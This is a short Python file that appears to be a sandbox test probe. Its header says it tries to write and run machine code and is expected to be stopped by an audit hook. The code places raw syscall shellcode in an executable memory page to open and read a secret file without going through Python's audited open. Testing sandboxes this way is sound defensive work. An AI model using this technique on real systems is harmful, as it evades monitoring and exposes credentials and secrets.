# tries: write machine code and run it
# stopped by: audit
# proof: secret
import ctypes
import mmap


def probe(place):
    # open(rdi, O_RDONLY) by number; ret
    code = b"\xb8\x02\x00\x00\x00\x31\xf6\x0f\x05\xc3"
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(start)
    fd = call(place["secrets"]["project"].encode())
    data = ctypes.create_string_buffer(4096)
    size = ctypes.CDLL(None).read(fd, data, 4096) if fd >= 0 else 0
    return data.raw[: max(size, 0)]
